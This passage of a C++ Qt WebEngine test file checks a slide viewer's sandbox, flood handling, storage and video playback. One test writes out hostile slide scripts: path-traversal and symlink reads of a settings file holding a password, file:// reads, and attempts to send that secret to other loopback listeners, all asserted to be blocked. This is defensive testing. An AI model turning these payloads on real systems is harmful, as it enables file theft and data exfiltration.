        {"host style sheet", [](TWBContainer& host) { host.SetHostCSS("body { background: rgb(1, 2, 3) }"); },
         "15 auto rgb(1, 2, 3)"},
    };
    for (const TRow& row : rows) {
        SCOPED_TRACE(row.Case);
        QWebEnginePage page(&Factory->Profile());
        QWebEngineView view(&FWindow);
        view.setPage(&page);
        view.setGeometry(FWindow.rect());
        view.show();
        TWBContainer host(&view);
        row.Configure(host);
        view.load(url);
        EXPECT_TRUE(WaitTitle(view, QString::fromUtf8(row.Title))) << view.title().toStdString();
    }
}

// Slides written by someone hostile, in the program's folders: an application folder with the settings file,
// the cache with the slide beside it, a content server and two listeners elsewhere on the loopback. Each row
// asserts what the page could read (its report in the title) and what reached the listeners.
TEST_F(WebSlideViewTest, AHostileSlideReachesOnlyItsOwnFilesAndTheContentServer)
{
    TLogCapture log;
    TListener server;
    server.Files.insert("/picture.svg",
                        {"image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'>"
                                          "<rect width='10' height='10' fill='rgb(0,255,0)'/></svg>"});
    server.Files.insert("/type.css",
                        {"text/css", "html, body { background: rgb(0, 0, 255); height: 100%; }"});
    TListener otherPort;                                            // the content server's host, another port
    TListener otherHost(QHostAddress(QStringLiteral("127.0.0.2"))); // another loopback address
    ASSERT_TRUE(server.isListening() && otherPort.isListening() && otherHost.isListening());
    // What WebRTC would send a STUN or TURN server on another address.
    QUdpSocket datagrams;
    ASSERT_TRUE(datagrams.bind(QHostAddress(QStringLiteral("127.0.0.2")), 0));
    int datagramsSeen = 0;
    QObject::connect(&datagrams, &QUdpSocket::readyRead, [&] {
        while (datagrams.hasPendingDatagrams()) {
            datagrams.receiveDatagram();
            ++datagramsSeen;
        }
    });
    const QString secret = QStringLiteral("SECRET-PASSWORD");
    FFolder.Write("VitrelleCenter.xml",
                  "<VitrelleCenter><Password>" + secret.toUtf8() + "</Password></VitrelleCenter>");
    FFolder.Write("Templates/Type.xsl", "<xsl:stylesheet/>");
    FFolder.Write("Cache/Type/data.txt", "0123456789");
    FFolder.Write(
        "Cache/Type/worker.js",
        QStringLiteral("var x = new XMLHttpRequest(); x.onload = function () { postMessage('read ' + "
                       "x.responseText); }; x.onerror = function () { postMessage('refused'); };"
                       "x.open('GET', 'http://127.0.0.2:%1/worker'); x.send();")
            .arg(otherHost.serverPort())
            .toUtf8());
    ASSERT_TRUE(QFile::link(FFolder.File("VitrelleCenter.xml"), FFolder.File("Cache/Type/link.txt")));
    const QString hostName = QString::fromUtf8(ReadFileBytes(QStringLiteral("/etc/hostname")).trimmed());
    const QString elsewhere = otherHost.Origin();
    const QString port = otherPort.Origin();
    // Reads a URL and reports what came back.
    const auto read = [](const QString& url) {
        return QStringLiteral("fetch('%1').then(function (r) { return r.text(); })"
                              ".then(function (t) { done('read ' + t); }, function () { done('refused'); });")
            .arg(url);
    };
    // Tries a STUN server (UDP) and a TURN server over TCP on the other address, with WebRTC of the window W.
    const QString webRtc = "try { var c = new W.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:" +
                           QString::number(datagrams.localPort()) +
                           "'}, {urls: 'turn:127.0.0.2:" + QString::number(otherHost.serverPort()) +
                           "?transport=tcp', username: 'u', credential: '" + secret +
                           "'}]}); c.createDataChannel('d'); c.createOffer().then(function (o) {"
                           " return c.setLocalDescription(o); }); } catch (e) {} setTimeout(function () { "
                           "done('tried'); }, 1500);";
    struct TRow
    {
        const char* Case;
        QString Body;
        QString Script;      // calls done(report) once it knows
        QString Report;      // what the page reports; empty: anything that does not hold the secret
        QStringList Blocked; // origins logged as blocked
        // No TCP connection reaches the other listeners. WebRTC of a frame the slide makes by script is out
        // of reach of the document script that takes WebRTC away; only its UDP is refused, by the engine.
        bool NoConnection = true;
    };
    const TRow rows[] = {
        {"settings file by relative path", {}, read("../../VitrelleCenter.xml"), "refused", {}},
        {"settings file by its absolute path on the scheme",
         {},
         read("vitrelle://' + location.host + '" + FFolder.File("VitrelleCenter.xml")),
         "refused",
         {}},
        {"out of the cache through the scheme",
         {},
         read("vitrelle://' + location.host + '/../../../etc/hostname"),
         "refused",
         {}},
        {"encoded dots", {}, read("%2e%2e/%2e%2e/VitrelleCenter.xml"), "refused", {}},
        {"symlink planted in the cache", {}, read("link.txt"), "refused", {}},
        {"own file",
         {},
         "var x = new XMLHttpRequest(); x.onload = function () { done('read ' + x.responseText); };"
         "x.onerror = function () { done('refused'); }; x.open('GET', 'data.txt'); x.send();",
         "read 0123456789",
         {}},
        {"another view's origin",
         {},
         read("vitrelle://view0" + FFolder.File("Cache/Type/data.txt")),
         "refused",
         {}},
        {"file by XHR",
         {},
         "var x = new XMLHttpRequest(); x.onload = function () { done('read ' + x.responseText); };"
         "x.onerror = function () { done('refused'); };"
         "try { x.open('GET', 'file:///etc/hostname'); x.send(); } catch (e) { done('refused'); }",
         "refused",
         {}},
        {"iframe of a local file",
         "<iframe src='file:///etc/hostname'></iframe>",
         "setTimeout(function () { try { done('read ' + frames[0].document.body.innerText); }"
         " catch (e) { done('refused'); } }, 300);",
         {},
         {}},
        {"iframe of the settings file",
         "<iframe src='../../VitrelleCenter.xml'></iframe>",
         "setTimeout(function () { try { done('read ' + frames[0].document.documentElement.textContent); }"
         " catch (e) { done('refused'); } }, 300);",
         {},
         {}},
        {"fetch to another address", {}, read(elsewhere + "/fetch"), "refused", {elsewhere}},
        {"XHR to another port",
         {},
         "var x = new XMLHttpRequest(); x.onload = function () { done('read ' + x.responseText); };"
         "x.onerror = function () { done('refused'); }; x.open('POST', '" +
             port + "/xhr'); x.send('" + secret + "');",
         "refused",
         {port}},
        {"picture from another address",
         {},
         "var i = new Image(); i.onload = function () { done('loaded'); };"
         "i.onerror = function () { done('refused'); }; i.src = '" +
             elsewhere + "/img';",
         "refused",
         {elsewhere}},
        {"fetch from a worker",
         {},
         "try { var w = new Worker('worker.js'); w.onmessage = function (e) { done(e.data); };"
         " w.onerror = function () { done('no worker'); }; } catch (e) { done('no worker'); }",
         "no worker", // a worker would have the storage a document is denied: none runs
         {}},
        {"beacon",
         {},
         "navigator.sendBeacon('" + elsewhere +
             "/beacon', 'x'); setTimeout(function () { done('sent'); }, 300);",
         "sent",
         {elsewhere}},
        {"WebSocket",
         {},
         "var w = new WebSocket('" + QString(elsewhere).replace("http:", "ws:") +
             "/ws');"
             "w.onopen = function () { done('open'); }; w.onerror = function () { done('refused'); };",
         "refused",
         {QString(elsewhere).replace("http:", "ws:")}},
        {"form post in a frame",
         "<iframe name='f'></iframe><form target='f' method='post' action='" + elsewhere +
             "/form'><input name='p' value='" + secret + "'></form>",
         "document.forms[0].submit(); setTimeout(function () { done('posted'); }, 300);",
         "posted",
         {elsewhere}},
        {"meta refresh to another host",
         "<meta http-equiv='refresh' content='0; url=" + elsewhere + "/meta'>",
         "setTimeout(function () { done('stayed'); }, 500);",
         "stayed",
         {}},
        {"meta refresh to a folder",
         "<meta http-equiv='refresh' content='0; url=file:///etc/'>",
         "setTimeout(function () { done('stayed'); }, 500);",
         "stayed",
         {}},
        {"location.replace to another host",
         {},
         "location.replace('" + elsewhere + "/replace'); setTimeout(function () { done('stayed'); }, 500);",
         "stayed",
         {}},
        {"location.replace to a folder",
         {},
         "location.replace('file:///etc/'); setTimeout(function () { done('stayed'); }, 500);",
         "stayed",
         {}},
        {"WebRTC to a STUN and a TURN server", {}, "var W = window;" + webRtc, {}, {}},
        {"WebRTC from a frame the slide makes",
         {},
         "var f = document.createElement('iframe'); document.body.appendChild(f); var W = f.contentWindow;" +
             webRtc,
         {},
         {},
         false},
        {"storage of a frame the slide makes",
         {},
         "var f = document.createElement('iframe'); document.body.appendChild(f); var w = f.contentWindow;"
         "try { w.localStorage.setItem('k', 'v'); w.indexedDB.open('x').onsuccess = function () {"
         " done('opened'); }; } catch (e) { done('refused'); }",
         "refused",
         {}},
        {"content server's picture and its type's style sheet",
         "<img src='" + server.Origin() +
             "/picture.svg' style='position: fixed; left: 0; top: 0; width: 50%; "
             "height: 100%'>",
         "addEventListener('load', function () { done('shown'); });",
         "shown",
         {}},
    };
    int index = 0;
    for (const TRow& row : rows) {
        SCOPED_TRACE(row.Case);
        log.Clear();
        const QString id = QStringLiteral("s%1").arg(index++);
        const QString head =
            QStringLiteral("<link rel='stylesheet' href='%1/type.css'><script>function done(r) {"
                           " document.title = 'done ' + r; }</script>")
                .arg(server.Origin());
        const QUrl url =
            Write("Cache/Type/" + id + ".html", Page(row.Body + "<script>" + row.Script + "</script>", head));
        const auto view = NewView();
        view->SetAccess({QStringLiteral("Slide %1 of vitrelle v1").arg(id),
                         {FFolder.File("Cache"), FFolder.File("Templates")},
                         {server.Origin()}});
        view->Navigate(url);
        ASSERT_TRUE(ServeEventsUntil([&] { return view->View().title().startsWith("done "); }, 5000))
            << view->View().title().toStdString();
        Serve(200);
        const QString report = view->View().title().mid(5);
        EXPECT_FALSE(report.contains(secret)) << report.toStdString();
        EXPECT_FALSE(report.contains(QStringLiteral("leaked"))) << report.toStdString();
        if (!hostName.isEmpty()) {
            EXPECT_FALSE(report.contains(hostName)) << report.toStdString();
        }
        if (!row.Report.isEmpty()) {
            EXPECT_EQ(report, row.Report);
        }
        EXPECT_EQ(view->Page().url().path(), url.path());
        if (row.NoConnection) {
            EXPECT_TRUE(otherHost.Requests.isEmpty()) << otherHost.Requests.join(", ").toStdString();
            EXPECT_TRUE(otherPort.Requests.isEmpty()) << otherPort.Requests.join(", ").toStdString();
            EXPECT_EQ(otherHost.Connections + otherPort.Connections, 0);
        }
        otherHost.Requests.clear();
        otherPort.Requests.clear();
        otherHost.Connections = otherPort.Connections = 0;
        EXPECT_EQ(datagramsSeen, 0);
        for (const QString& origin : row.Blocked) {
            const QString line =
                QStringLiteral("[2] TSlidePage: Slide %1 of vitrelle v1: blocked a request to %2")
                    .arg(id, origin);
            EXPECT_EQ(log.Lines().count(line), 1) << log.Lines().join('\n').toStdString();
        }
        // The slide's own picture and style sheet from the content server are still on screen.
        ASSERT_TRUE(WaitReady(*view));
        const QImage image = view->Widget().grab().toImage();
        EXPECT_EQ(image.pixelColor(image.width() * 3 / 4, image.height() / 2), QColor(0, 0, 255));
        if (QString::fromUtf8(row.Case).startsWith("content server")) {
            EXPECT_EQ(image.pixelColor(image.width() / 4, image.height() / 2), QColor(0, 255, 0));
        }
    }
    EXPECT_TRUE(FOtherWindows.isEmpty()) << FOtherWindows.join(' ').toStdString();
}

TEST_F(WebSlideViewTest, TheSchemeServesByteRangesAndContentTypes)
{
    FFolder.Write("Cache/clip.mp4", "0123456789");
    FFolder.Write("Cache/style.css", "body {}");
    const auto view = NewView();
    view->SetAccess({{}, {FFolder.File("Cache")}, {}});
    view->Navigate(
        Write("Cache/range.html",
              Page({}, "<script>var x = new XMLHttpRequest(); x.open('GET', 'clip.mp4');"
                       "x.setRequestHeader('Range', 'bytes=2-5');"
                       "x.onload = function () { document.title = x.status + ' ' + x.responseText + ' ' +"
                       " x.getResponseHeader('content-type'); };"
                       "x.onerror = function (e) { document.title = 'failed'; }; x.send();"
                       "fetch('style.css').then(function (r) { console.log('fetch ' + r.status); },"
                       " function (e) { console.log('fetch failed ' + e); });</script>")));
    EXPECT_TRUE(WaitTitle(view->View(), QStringLiteral("206 2345 video/mp4")))
        << view->View().title().toStdString();
}

// A page that floods the program with title changes or console messages, hangs after it painted, or grows its
// renderer past the bound is given up with one line: the program's memory stays flat, its main thread free,
// and the next slide in the same view shows.
TEST_F(WebSlideViewTest, AFloodingOrHungPageIsReplacedAndTheNextSlideShows)
{
    struct TRow
    {
        const char* Case;
        const char* Script;
        const char* Logged;
        int WaitMs; // before the next slide
    };
    const TRow rows[] = {
        {"title flood",
         "function f() { for (var i = 0; i < 1000; ++i) document.title = 't' + Math.random(); setTimeout(f); "
         "}"
         " f();",
         "its page sends the program more than 200 events a second", 3000},
        {"console flood",
         "function f() { for (var i = 0; i < 1000; ++i) console.log('x' + Math.random()); setTimeout(f); } "
         "f();",
         "its page sends the program more than 200 events a second", 3000},
        {"endless loop after paint",
         "addEventListener('load', function () { setTimeout(function () { for (;;) {} }, 300); });",
         "its page has not answered for more than 1000 ms", 2000},
        {"renderer that eats memory",
         "var kept = []; function f() { if (kept.length < 24) { var a = new Uint8Array(32 << 20);"
         " a.fill(1); kept.push(a); setTimeout(f, 20); } } f();",
         "more than 512 MiB", 3000},
    };
    for (const TRow& row : rows) {
        SCOPED_TRACE(row.Case);
        const TLogCapture log;
        const auto view = NewView();
        view->SetAccess({QStringLiteral("Slide bad of vitrelle v1"), {}, {}});
        // The main thread's longest stall, seen by a 10 ms timer.
        QElapsedTimer sinceTick;
        qint64 longestStall = 0;
        QTimer ticker;
        QObject::connect(&ticker, &QTimer::timeout,
                         [&] { longestStall = std::max(longestStall, sinceTick.restart()); });
        const qint64 before = OwnResidentKiB();
        sinceTick.start();
        ticker.start(10);
        view->Navigate(Write("bad.html", Page(QStringLiteral("<style>html { background: red; height: 100%; }"
                                                             "</style><script>%1</script>")
                                                  .arg(QString::fromUtf8(row.Script)))));
        Serve(row.WaitMs);
        const qint64 after = OwnResidentKiB();
        view->SetAccess({QStringLiteral("Slide next of vitrelle v1"), {}, {}});
        const int ready = Ready(*view);
        view->Navigate(Write("next.html", ColourPage("blue")));
        EXPECT_TRUE(WaitReady(*view, ready + 1, 5000));
        ticker.stop();
        EXPECT_EQ(CentreColour(view->Widget()), QColor(Qt::blue));
        EXPECT_LT(after - before, 64 * 1024) << before << " KiB before, " << after << " KiB after";
        EXPECT_LT(longestStall, 500);
        const QStringList lines = log.Lines().filter(QString::fromUtf8(row.Logged));
        ASSERT_EQ(lines.size(), 1) << log.Lines().join('\n').toStdString();
        EXPECT_TRUE(lines[0].startsWith("[2] TWebSlideView: Slide bad of vitrelle v1: "))
            << lines[0].toStdString();
    }
}

// A slide that fills IndexedDB as fast as it can for its whole time, from its own document or from a frame it
// makes by script (which starts as about:blank, where no script of the program runs before the slide's). The
// profile would keep such storage in the program's own memory (it is off the record): it grew by 1.4 GB in
// each case. The slide gets none; the program's memory stays as it was while the slide plays and after it.
TEST_F(WebSlideViewTest, ASlideFillingItsStorageLeavesTheProgramsMemoryAsItWas)
{
    for (const char* where : {"var w = window;", "var f = document.createElement('iframe');"
                                                 " document.body.appendChild(f); var w = f.contentWindow;"}) {
        SCOPED_TRACE(where);
        FillStorage(where);
    }
}

// A template that keeps a little state in local or session storage still runs; what it stores is gone when
// the next slide of its view begins, and the other view's slides never see it.
TEST_F(WebSlideViewTest, WhatASlideStoresIsGoneForTheNextSlide)
{
    const auto view = NewView();
    const auto other = NewView();
    view->Navigate(Write("stores.html",
                         Page({}, "<script>localStorage.setItem('k', 'v'); sessionStorage.s = 'w';"
                                  " document.title = 'stored ' + localStorage.getItem('k') + localStorage.k +"
                                  " sessionStorage.getItem('s') + localStorage.length;</script>")));
    ASSERT_TRUE(WaitTitle(view->View(), "stored vvw1")) << view->View().title().toStdString();
    const QByteArray look = Page({}, "<script>setTimeout(function () { document.title = 'seen ' +"
                                     " localStorage.length + ' ' + sessionStorage.length + ' ' +"
                                     " (typeof indexedDB) + ' ' + (typeof caches); }, 200);</script>");
    other->Navigate(Write("other.html", look));
    EXPECT_TRUE(WaitTitle(other->View(), "seen 0 0 undefined undefined"))
        << other->View().title().toStdString();
    view->Navigate(Write("next.html", look));
    EXPECT_TRUE(WaitTitle(view->View(), "seen 0 0 undefined undefined"))
        << view->View().title().toStdString();
}

} // namespace

// ---- video slides ----

namespace {

// A test video made by the project's own script (ffmpeg, from a generated pattern) the first time a test asks
// for it; empty when it cannot be made (no ffmpeg).
QString Clip(const QString& name, const QStringList& options)
{
    static QTemporaryDir folder;
    static QHash<QString, QString> made;
    const auto found = made.constFind(name);
    if (found != made.constEnd())
        return *found;
    QProcess maker;
    QStringList arguments{QString::fromUtf8(VC_MAKE_CLIP_SCRIPT)};
    arguments << options << folder.filePath(name);
    maker.start(QStringLiteral("bash"), arguments);
    const bool ok = maker.waitForFinished(120000) && maker.exitStatus() == QProcess::NormalExit &&
                    maker.exitCode() == 0 && QFileInfo(folder.filePath(name)).size() > 0;
    if (!ok)
        ADD_FAILURE() << "scripts/make-clip.sh failed: " << maker.readAllStandardError().toStdString();
    return made[name] = ok ? folder.filePath(name) : QString();
}

// 320x240, 2 s at 30 frames a second: the first frame all green, the others all red.
QString GreenFirstClip(const QString& codec, const QString& name)
{
    return Clip(name, {"--codec", codec, "--size", "320x240", "--seconds", "2", "--pattern", "first-green"});
}

bool Green(const QColor& colour)
{
    return colour.green() > 200 && colour.red() < 60 && colour.blue() < 60;
}
bool Red(const QColor& colour)
{
    return colour.red() > 200 && colour.green() < 60 && colour.blue() < 60;
}

QString ColourText(const QColor& colour)
{
    return QStringLiteral("(%1, %2, %3)")
        .arg(QString::number(colour.red()), QString::number(colour.green()), QString::number(colour.blue()));
}

// A video page: each source fills its share of the width, side by side.
QByteArray VideoPage(const QStringList& sources, const QString& attributes = QStringLiteral("autoplay"))
{
    QString videos;
    for (const QString& source : sources)
        videos += QStringLiteral("<video %1 src='%2' style='width:%3%;height:100%;object-fit:fill;"
                                 "display:block;float:left'></video>")
                      .arg(attributes, source, QString::number(100 / sources.size()));
    return Page(videos, QStringLiteral("<style>html, body { height: 100%; background: black; }</style>"));
}

// Serves files over HTTP on 127.0.0.1; the file named held gets its answer only once Release is called.
class TVideoServer : public QTcpServer
{
public:
    TVideoServer()
    {
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = nextPendingConnection())
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    const QByteArray head = socket->readAll();
                    const QByteArray path = head.left(head.indexOf('\r')).split(' ').value(1);
                    if (path == Held && !FReleased)
                        FWaiting << socket;
                    else
                        Answer(socket, path);
                });
        });
        listen(QHostAddress::LocalHost);
    }
    QString Origin() const { return QStringLiteral("http://127.0.0.1:%1").arg(serverPort()); }
    void Release()
    {
        FReleased = true;
        for (const QPointer<QTcpSocket>& socket : std::as_const(FWaiting))
            if (socket)
                Answer(socket, Held);
        FWaiting.clear();
    }

    QHash<QByteArray, QByteArray> Files;
    QByteArray Held;

private:
    void Answer(QTcpSocket* socket, const QByteArray& path)
    {
        const QByteArray body = Files.value(path);
        socket->write("HTTP/1.1 " + QByteArray(body.isEmpty() ? "404 Not Found" : "200 OK") +
                      "\r\nContent-Type: video/webm\r\nContent-Length: " + QByteArray::number(body.size()) +
                      "\r\nConnection: close\r\n\r\n" + body);
        socket->disconnectFromHost();
    }

    bool FReleased = false;
    QList<QPointer<QTcpSocket>> FWaiting;
};

// Runs a script in the document's world and gives its value.
QVariant Evaluate(TWebSlideView& view, const QString& script)
{
    QVariant result;
    bool done = false;
    view.Page().runJavaScript(script, [&](const QVariant& value) {
        result = value;
        done = true;
    });
    ServeEventsUntil([&] { return done; }, 5000);
    return result;
}

} // namespace

// The slide is reported ready with its video's first frame on screen (not black, not a later frame), which
// stays there while the slide waits behind the one on screen, and plays from its first frame at the start.
TEST_F(WebSlideViewTest, AVideoSlideIsReadyAtItsFirstFrameAndPlaysFromThereAtTheStart)
{
    struct TRow
    {
        const char* Codec;
        const char* File;
        const char* Attributes;
        qint64 UntilEndMs = -1;
    };
    const TRow rows[] = {
        {"h264", "first.mp4", "autoplay"},
        {"vp9", "first.webm", "autoplay"},
        {"vp8", "first-vp8.webm", "autoplay"},
        {"av1", "first-av1.webm", "autoplay"},
        // The slide's own script asks to play at once; preload none would never load a frame.
        {"h264", "first.mp4", "preload='none' onloadstart='this.play()'"},
        // The slide asks to stay until its 2 s video ends.
        {"vp9", "first.webm", "autoplay data-vitrelle-until-end", 2000},
    };
    for (const TRow& row : rows) {
        SCOPED_TRACE(QStringLiteral("%1 %2").arg(row.Codec, row.Attributes).toStdString());
        const QString clip = GreenFirstClip(row.Codec, row.File);
        ASSERT_FALSE(clip.isEmpty());
        QFile::remove(FFolder.File(row.File));
        ASSERT_TRUE(QFile::copy(clip, FFolder.File(row.File)));
        const auto view = NewView();
        QColor atReady;
        view->OnReady = [&] {
            ++FReady[view.get()];
            atReady = CentreColour(view->Widget());
        };
        view->Navigate(Write("video.html", VideoPage({row.File}, row.Attributes)));
        ASSERT_TRUE(WaitReady(*view, 1, 20000));
        EXPECT_TRUE(Green(atReady)) << ColourText(atReady).toStdString();
        EXPECT_EQ(view->UntilEndMs(), row.UntilEndMs);
        // Held at its first frame while it waits for the swap.
        Serve(700);
        EXPECT_TRUE(Green(CentreColour(view->Widget())));
        EXPECT_EQ(Evaluate(*view, "var v = document.querySelector('video'); v.paused && v.currentTime === 0"),
                  QVariant(true));

        view->Start();
        EXPECT_TRUE(ServeEventsUntil([&] { return Red(CentreColour(view->Widget())); }, 5000))
            << ColourText(CentreColour(view->Widget())).toStdString();
        // Played from its start: a video that ran while it waited would be that much further.
        const double position = Evaluate(*view, "document.querySelector('video').currentTime").toDouble();
        EXPECT_GT(position, 0.0);
        EXPECT_LT(position, 0.6);
        EXPECT_EQ(Evaluate(*view, "document.querySelector('video').muted"), QVariant(false));
        EXPECT_TRUE(view->Page().isAudioMuted());
    }
}

// A video the engine cannot play makes its slide one that failed to load: never ready, one line naming the
// file and the engine's error, and the next slide in the same view shows.
TEST_F(WebSlideViewTest, AVideoThatCannotPlayFailsItsSlideWithOneLine)
{
    struct TRow
    {
        const char* Name;
        const char* File;
        QString Clip; // empty: the bytes below
        QByteArray Bytes;
        const char* Error;
    };
    QByteArray noise(64 * 1024, '\0');
    for (qsizetype i = 0; i < noise.size(); ++i)
        noise[i] = char((i * 7919 + 13) % 251);
    const TRow rows[] = {
        {"a file that is no video", "broken.mp4", {}, "ftypisom" + noise, "format not supported"},
        // The engine of Debian 12 plays no H.265.
        {"H.265", "hevc.mp4", GreenFirstClip("hevc", "hevc.mp4"), {}, "format not supported"},
        {"a missing file", "missing.mp4", {}, {}, "cannot be played"},
    };
    for (const TRow& row : rows) {
        SCOPED_TRACE(row.Name);
        const TLogCapture log;
        if (!row.Clip.isEmpty()) {
            QFile::remove(FFolder.File(row.File));
            ASSERT_TRUE(QFile::copy(row.Clip, FFolder.File(row.File)));
        } else if (!row.Bytes.isEmpty()) {
            FFolder.Write(row.File, row.Bytes);
        }
        const auto view = NewView();
        view->SetAccess({QStringLiteral("Slide v of vitrelle w"), {}, {}});
        view->Navigate(Write("video.html", VideoPage({row.File})));
        const QString file = FFolder.File(row.File);
        ASSERT_TRUE(ServeEventsUntil([&] { return log.Contains(file); }, 10000))
            << log.Lines().join('\n').toStdString();
        Serve(500);
        EXPECT_EQ(Ready(*view), 0);
        const QStringList lines = log.Lines();
        ASSERT_EQ(lines.size(), 1) << lines.join('\n').toStdString();
        EXPECT_TRUE(lines[0].startsWith(
            QStringLiteral("[2] TWebSlideView: Slide v of vitrelle w: the video %1 cannot be played: ")
                .arg(file)))
            << lines[0].toStdString();
        EXPECT_TRUE(lines[0].contains(row.Error)) << lines[0].toStdString();

        view->Navigate(Write("next.html", ColourPage("blue")));
        ASSERT_TRUE(WaitReady(*view));
        EXPECT_EQ(CentreColour(view->Widget()), QColor(Qt::blue));
        EXPECT_EQ(log.Lines().size(), 1) << log.Lines().join('\n').toStdString();
    }
}

// A page with two videos is ready once both show their first frame: one that has not come yet holds the slide
// (and is named when the next slide comes first).
TEST_F(WebSlideViewTest, APageWithTwoVideosWaitsForBoth)
{
    const QString local = GreenFirstClip("h264", "first.mp4");
    const QString remote = GreenFirstClip("vp9", "first.webm");
    ASSERT_FALSE(local.isEmpty() || remote.isEmpty());
    ASSERT_TRUE(QFile::copy(local, FFolder.File("first.mp4")));
    TVideoServer server;
    server.Files["/late.webm"] = ReadFileBytes(remote);
    server.Held = "/late.webm";
    const QByteArray page = VideoPage({"first.mp4", server.Origin() + "/late.webm"});
    const TLogCapture log;
    const auto view = NewView();
    view->SetAccess({QStringLiteral("Slide v of vitrelle w"), {}, {server.Origin()}});

    view->Navigate(Write("two.html", page));
    Serve(2000);
    EXPECT_EQ(Ready(*view), 0);
    view->Navigate(Write("next.html", ColourPage("blue")));
    ASSERT_TRUE(WaitReady(*view));
    ASSERT_EQ(log.Lines().size(), 1) << log.Lines().join('\n').toStdString();
    EXPECT_EQ(log.Lines()[0],
              QStringLiteral("[2] TWebSlideView: Slide v of vitrelle w: the video %1/late.webm "
                             "had not shown its first frame when the next slide came; the "
                             "slide is skipped")
                  .arg(server.Origin()));

    QColor left;
    QColor right;
    view->OnReady = [&] {
        ++FReady[view.get()];
        const QImage image = view->Widget().grab().toImage();
        left = image.pixelColor(image.width() / 4, image.height() / 2);
        right = image.pixelColor(image.width() * 3 / 4, image.height() / 2);
    };
    view->Navigate(Write("two.html", page));
    Serve(1500);
    EXPECT_EQ(Ready(*view), 1);
    server.Release();
    ASSERT_TRUE(WaitReady(*view, 2, 20000));
    EXPECT_TRUE(Green(left)) << ColourText(left).toStdString();
    EXPECT_TRUE(Green(right)) << ColourText(right).toStdString();
}
